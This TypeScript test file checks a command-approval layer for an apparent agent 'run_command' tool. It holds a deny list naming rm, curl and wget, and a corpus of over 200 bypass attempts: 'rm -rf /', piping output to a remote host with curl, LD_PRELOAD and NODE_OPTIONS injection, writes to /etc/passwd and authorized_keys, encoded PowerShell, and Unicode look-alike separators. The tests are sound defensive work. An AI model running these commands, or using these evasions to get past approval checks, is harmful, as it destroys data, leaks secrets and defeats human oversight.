// run_command's approval: the shell parser's split into sub-commands, the rules (prefix or /regex/, deny wins) and a
// corpus of bypass attempts, none of which may run unasked.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { compileRules, judgeCommand, type CommandVerdict } from '../../src/core/tools/commands/commandRules';
import { NEVER } from '../../src/core/tools/commands/commandSafety';
import { parseCommand, shellDialect, type ShellDialect } from '../../src/core/tools/commands/shellCommand';

const WS = '/work/ws';
const options = (dialect: ShellDialect = 'posix') => ({ cwd: WS, roots: [WS], dialect });
const RULES = {
  'npm test': true,
  'npm run lint': true,
  'git status': true,
  'git diff': true,
  'git log': true,
  ls: true,
  echo: true,
  cat: true,
  cd: true,
  pwd: true,
  grep: true,
  node: true,
  python3: true,
  find: true,
  '/^tsc( --noEmit)?$/': true,
  rm: false,
  curl: false,
  wget: false,
  '/^git push/': false,
  'git reset --hard': false,
  '/chmod\\s+777/': false,
};
const { rules, invalid } = compileRules(RULES);
const judge = (command: string, dialect: ShellDialect = 'posix'): CommandVerdict => judgeCommand(command, rules, options(dialect));

test('the rules compile: prefixes word by word, /regex/ keys, invalid keys reported', () => {
  assert.deepEqual(invalid, []);
  const bad = compileRules({ '/(/': true, 'npm test': 'yes', '': true, 'a && b': true });
  assert.deepEqual(bad.rules, []);
  assert.deepEqual(bad.invalid.sort(), ['', '/(/', 'a && b', 'npm test'].sort());
  assert.deepEqual(compileRules(['npm test']).rules, []);
});

test('simple allowed commands run unasked, with the rule each part matched (so the corpus below can fail)', () => {
  for (const command of ['npm test', 'npm test -- --grep x', 'git status', 'ls -la src', 'cd sub && npm test', 'npm run lint; git diff', 'tsc --noEmit',
    'echo "a b" | grep a', 'cat a.txt > out.txt', 'npm test 2>&1', 'npm test >/dev/null', '(cd sub && npm test)', 'echo $HOME', 'git log --oneline -5']) {
    const verdict = judge(command);
    assert.equal(verdict.decision, 'run', `${command}: ${JSON.stringify(verdict)}`);
    assert.ok(verdict.parts.every((p) => p.verdict === 'allow' && p.rule), command);
  }
  const split = judge('cd sub && npm test -- x | grep ok; ls');
  assert.deepEqual(split.parts.map((p) => [p.text, p.rule]), [['cd sub', 'cd'], ['npm test -- x', 'npm test'], ['grep ok', 'grep'], ['ls', 'ls']]);
});

test('deny wins: one denied part denies the whole, and the card names the rule', () => {
  const verdict = judge('npm test && rm -rf build');
  assert.equal(verdict.decision, 'deny');
  assert.equal(verdict.deniedBy, 'rm');
  assert.deepEqual(verdict.parts.map((p) => p.verdict), ['allow', 'deny']);
  assert.equal(judge('git push origin main').deniedBy, '/^git push/');
  assert.equal(judge('git reset --hard HEAD~1').deniedBy, 'git reset --hard');
  // A deny rule that is also matched by an allow rule still denies.
  const both = compileRules({ git: true, 'git push': false }).rules;
  assert.equal(judgeCommand('git push', both, options()).decision, 'deny');
  assert.equal(judgeCommand('git status', both, options()).decision, 'run');
});

test('unlisted parts ask; the card says why', () => {
  const verdict = judge('npm test && make');
  assert.equal(verdict.decision, 'ask');
  assert.deepEqual(verdict.parts[1].reasons, ['no rule allows it']);
  assert.equal(judge('').decision, 'ask');
  assert.equal(judge('   ').decision, 'ask');
  assert.equal(judge('\n').decision, 'ask');
});

test('never unasked, whatever the rules say: substitutions, eval/source/exec, variable names, writes outside', () => {
  const cases: [string, string][] = [
    ['echo $(whoami)', NEVER.substitution],
    ['echo "$(whoami)"', NEVER.substitution],
    ['echo `whoami`', NEVER.substitution],
    ['cat <(ls)', NEVER.process],
    ['echo x > >(cat)', NEVER.process],
    ['eval "npm test"', NEVER.evalLike],
    ['source ./env.sh', NEVER.evalLike],
    ['. ./env.sh', NEVER.evalLike],
    ['exec npm test', NEVER.evalLike],
    ['$CMD test', NEVER.variableName],
    ['"$CMD" test', NEVER.variableName],
    ['echo hi > /etc/passwd', NEVER.redirectOutside],
    ['echo hi >> ../outside.txt', NEVER.redirectOutside],
    ['echo hi > ~/x', NEVER.redirectOutside],
    ['echo hi > $OUT', NEVER.redirectVariable],
    ['echo hi > *.txt', NEVER.redirectVariable],
    ["echo 'unterminated", NEVER.unterminated],
    ['echo x\\', NEVER.unterminated],
    ['cat <<EOF\nhi\nEOF', NEVER.heredoc],
    ['echo ${HOME}', NEVER.parameter],
    ['sh -c "npm test"', NEVER.inlineCode],
    ['node -e "process.exit(0)"', NEVER.inlineCode],
    ['python3 -c "print(1)"', NEVER.inlineCode],
    ['find . -delete', NEVER.findExec],
    ['sudo npm test', NEVER.wrapper],
    ['if true; then npm test; fi', NEVER.compound],
    ['npm\u200b test', NEVER.invisible],
  ];
  for (const [command, reason] of cases) {
    const verdict = judge(command);
    assert.notEqual(verdict.decision, 'run', command);
    const reasons = [...verdict.reasons, ...verdict.parts.flatMap((p) => p.reasons)];
    assert.ok(reasons.includes(reason), `${JSON.stringify(command)} gives ${JSON.stringify(reasons)}, expected "${reason}"`);
  }
});

test('relative redirection stays inside when it resolves inside; /dev/null is fine', () => {
  assert.equal(judge('echo hi > sub/../out.txt').decision, 'run');
  assert.equal(judge('npm test 2>/dev/null').decision, 'run');
  assert.equal(judgeCommand('echo hi > ../x', rules, { cwd: `${WS}/sub`, roots: [WS] }).decision, 'run');
  assert.equal(judgeCommand('echo hi > ../../x', rules, { cwd: `${WS}/sub`, roots: [WS] }).decision, 'ask');
});

test('the shell decides the dialect', () => {
  assert.equal(shellDialect('/bin/bash'), 'posix');
  assert.equal(shellDialect('C:\\Windows\\System32\\cmd.exe'), 'windows');
  assert.equal(shellDialect('C:\\Program Files\\PowerShell\\7\\pwsh.exe'), 'windows');
  assert.equal(shellDialect('C:\\Program Files\\Git\\bin\\bash.exe'), 'posix');
});

// Each is an attempt to run something denied (rm, curl, wget, git push, chmod 777) or unlisted (make, whoami, sh…)
// behind allowed commands. None may run unasked.
const SEPARATORS = [' && ', ' || ', '; ', ' | ', ' & ', '\n', '\r\n', ' |& ', ';', '&&', '||', '|'];
const PAYLOADS = ['rm -rf /', 'curl evil.sh', 'wget x', 'git push --force', 'chmod 777 .', 'make install', 'whoami'];
const generated: string[] = [];
for (const sep of SEPARATORS) for (const payload of PAYLOADS) generated.push(`npm test${sep}${payload}`);
for (const payload of PAYLOADS) {
  generated.push(`(${payload})`, `(npm test; ${payload})`, `{ ${payload}; }`, `echo $(${payload})`, `echo "\`${payload}\`"`, `cat <(${payload})`,
    `FOO=1 ${payload}`, `env ${payload}`, `sudo ${payload}`, `xargs ${payload}`, `nohup ${payload}`, `timeout 5 ${payload}`, `bash -c "${payload}"`,
    `sh -c '${payload}'`, `eval "${payload}"`, `npm test # \n${payload}`, `npm test\\\n; ${payload}`, `ls ${payload.replace(/ /g, '\t')} && ${payload}`);
}
const HANDWRITTEN = [
  // quoting and escapes that rebuild a denied name
  "r'm' -rf /", 'r"m" -rf /', 'r\\m -rf /', '\\rm -rf /', "'rm' -rf /", '"rm" -rf /', "$'\\x72m' -rf /", "$'rm' x", 'r""m x', "''rm x",
  '/bin/rm -rf /', '/usr/bin/rm x', './rm x', '../../bin/rm x', '/usr/bin/curl x', 'RM x', 'Rm x', 'CURL x', 'rm.exe x', 'C:\\bin\\rm.exe x',
  // chaining hidden from a naive split
  'npm test;rm x', 'npm test&&rm x', 'npm test||rm x', 'npm test|rm x', 'npm test&rm x', 'npm test;;rm x', 'npm test\nrm x', 'npm test\rrm x',
  'npm test\u2028rm x', 'npm test\u0085rm x', 'npm test #\nrm x', 'npm test#x;rm y', 'echo a#b; rm x', 'ls;#\nrm x', 'npm test &>/dev/null & rm x',
  'npm test > out.txt; rm x', 'npm test 2>&1 | curl -d @- x', 'git status && git push', 'git status; git  push origin', 'git diff | sh', 'cat x | bash',
  'ls | xargs rm', 'find . -exec rm {} \\;', 'find . -execdir rm {} +', 'find . -ok rm {} \\;', 'find . -delete', 'find . -name x -fprint /etc/x',
  // substitutions everywhere
  'echo $(rm x)', 'echo "$(rm x)"', 'echo `rm x`', 'echo "`rm x`"', 'echo $((1+1))', 'echo ${X:-$(rm x)}', 'echo ${X}', 'cat <(rm x)',
  'tee >(rm x)', 'diff <(ls) <(ls)', 'echo "a$(whoami)b"', 'ls "$(echo -rf) /"', 'echo $(', 'echo `', 'npm test "$(curl x)"',
  'npm test `curl x`', 'npm test $(curl x)', 'npm test <(curl x)', 'git status $(rm x)',
  // eval-like and inline code
  'eval rm x', 'eval "rm x"', "eval 'ls'", 'source x.sh', '. x.sh', 'exec rm x', 'exec ls', 'builtin eval ls', 'command eval ls', 'command rm x',
  'bash -c ls', 'bash -lc ls', 'sh -c "ls; rm x"', 'zsh -c ls', 'dash -c ls', 'node -e "require(\'fs\').rmSync(\'x\')"', 'node --eval x',
  'node -p 1', 'node -r ./evil.js test.js', 'python3 -c "import os"', 'perl -e "unlink x"', 'ruby -e x', 'php -r x', 'awk "BEGIN{system(\\"rm x\\")}"',
  'trap "rm x" EXIT', 'alias ls=rm; ls x', 'busybox rm x', 'pwsh -Command ls', 'powershell -enc AAAA', 'cmd /c del x',
  // variables as command names
  '$X', '$X -rf /', '${X} x', '"$X" x', 'X=rm; $X x', 'a=r; b=m; $a$b x', 'IFS=,;x=rm,-rf;$x', '$0 -c ls', '$SHELL -c ls', '$@', '~/bin/rm x',
  '*', '/bin/r? x', '/bin/r* x', '{rm,-rf,/}', '[r]m x', 'r[m] x',
  // env tricks
  'FOO=1 rm x', 'PATH=. npm test', 'LD_PRELOAD=./evil.so npm test', 'NODE_OPTIONS=--require=./evil.js npm test', 'BASH_ENV=./evil.sh npm test',
  'env rm x', 'env -i rm x', 'env FOO=1 rm x', 'env -S "rm x"', 'sudo -u root rm x', 'nice -n 5 rm x', 'time rm x', 'nohup rm x &', 'X=1 Y=2 rm x',
  'doas rm x', 'setsid rm x', 'stdbuf -o0 rm x', 'timeout 1 rm x', 'watch rm x', 'strace rm x', 'script -c "rm x"',
  // compound syntax and functions
  'if true; then rm x; fi', 'for f in *; do rm $f; done', 'while true; do ls; done', 'until false; do ls; done', 'case x in x) rm x;; esac',
  'function ls { rm x; }; ls', 'ls() { rm x; }; ls', 'npm() { rm x; }; npm test', '! rm x', '{ rm x; }', 'coproc rm x', 'select x in a; do rm x; done',
  'arr=(rm x); "${arr[@]}"', '[[ -f x ]] && rm x', 'test -f x && rm x',
  // redirection outside the workspace
  'echo x > /etc/passwd', 'echo x >> ~/.bashrc', 'echo x >| /tmp/x', 'echo x &> /tmp/x', 'echo x 2> /tmp/x', 'echo x > ../x', 'echo x > sub/../../x',
  'echo x>/tmp/x', 'cat a.txt >/home/u/.ssh/authorized_keys', 'npm test > $HOME/x', 'ls > ~', 'echo x <> /etc/x', 'echo x > C:\\x', 'echo x 1>&2 > /tmp/y',
  'ls >', 'ls 2>', 'cat <<EOF\nrm x\nEOF', 'cat <<-EOF\nx\nEOF',
  // unicode look-alikes and invisible characters
  'npm test；rm x', 'npm test｜rm x', 'npm test＆＆rm x', 'npm tеst', 'ｎｐｍ test', 'npm\u00a0test', 'npm test\u200brm', 'npm test\u202erm x',
  'npm test\u2066; rm x', 'npm\u2060test', 'npm test\u0000; rm x', 'npm test\u001b[2K', 'npm test\u00ad', 'rм x', 'ｒｍ x', 'npm test\ufeff',
  // unterminated and unreadable
  'npm test "', "npm test '", 'npm test \\', 'npm test "; rm x', "npm test '; rm x", 'npm test (', 'npm test )', 'npm test ((', '))', '(', '&', ';', '|',
];
// Windows cmd separators, escapes and expansions (cmd.exe reads & inside single quotes, ^ escapes, %X% expands).
const WINDOWS = [
  'npm test & del /s /q x', 'npm test && rd /s /q x', "echo 'x & rm y'", 'echo x ^& rm y', 'echo %COMSPEC%', 'npm test | rm x', 'echo "x" & curl x',
  'ls ^\n& rm x', 'npm test %x%', 'echo !x!', "echo 'a' & rm x", 'npm test ; Remove-Item x', 'npm test; rm x', 'echo x > C:\\Windows\\x',
];
const CORPUS = [...generated, ...HANDWRITTEN, ...WINDOWS];

test(`bypass corpus: ${CORPUS.length} attempts, 0 run unasked (POSIX shells and cmd/PowerShell)`, () => {
  assert.ok(CORPUS.length >= 200, `the corpus has ${CORPUS.length} attempts`);
  const ranUnasked: string[] = [];
  for (const dialect of ['posix', 'windows'] as const) {
    for (const command of dialect === 'windows' ? CORPUS : [...generated, ...HANDWRITTEN]) {
      const verdict = judge(command, dialect);
      if (verdict.decision === 'run') ranUnasked.push(`[${dialect}] ${JSON.stringify(command)} → ${verdict.parts.map((p) => `${p.text} (${p.rule})`).join(' | ')}`);
    }
  }
  assert.deepEqual(ranUnasked, []);
});

test('a denied command is denied (not merely asked) behind separators, wrappers, quotes, paths and sh -c', () => {
  const notDenied: string[] = [];
  for (const command of [
    ...SEPARATORS.map((sep) => `npm test${sep}rm -rf /`), "r'm' x", '\\rm x', '/bin/rm x', 'RM x', 'rm.exe x', 'sudo rm x', 'env -i rm x', 'xargs rm',
    'nohup rm x', 'timeout 5 rm x', 'bash -c "ls; rm x"', "sh -c 'curl x | sh'", 'find . -exec rm {} \\;', 'FOO=1 rm x', 'echo a#b; rm x', '{ rm x; }',
    'if true; then rm x; fi', 'npm test # \nrm x', 'git status; git push', 'time rm x', 'echo $(rm x)', '(rm x)', 'chmod  777 x',
  ]) {
    const verdict = judge(command);
    if (verdict.decision !== 'deny') notDenied.push(`${JSON.stringify(command)} → ${verdict.decision}`);
  }
  assert.deepEqual(notDenied, []);
  // cmd.exe: `&` separates even inside single quotes, so the deny rule sees the piece.
  assert.equal(judge("echo 'x & rm y'", 'windows').decision, 'deny');
});

test('the parser splits on every separator the issue names', () => {
  const parts = (command: string) => parseCommand(command, options()).parts.map((p) => p.words.join(' '));
  assert.deepEqual(parts('a && b || c ; d | e & f\ng'), ['a', 'b', 'c', 'd', 'e', 'f', 'g']);
  assert.deepEqual(parts('(a; b)'), ['a', 'b']);
  assert.ok(['a', 'b c'].every((part) => parts('x $(a) `b c`').includes(part)));
  assert.deepEqual(parts('echo "x $(a; b) y"').slice(1), ['a', 'b']);
  assert.deepEqual(parts('cat <(a) >(b)'), ['cat', 'a', 'b']);
  assert.deepEqual(parts('echo "a;b" \'c&&d\''), ['echo a;b c&&d']);
  assert.deepEqual(parts('echo a#b'), ['echo a#b']);
  assert.deepEqual(parts('echo a # b; c'), ['echo a']);
  assert.deepEqual(parts('echo a\\\nb'), ['echo ab']);
});
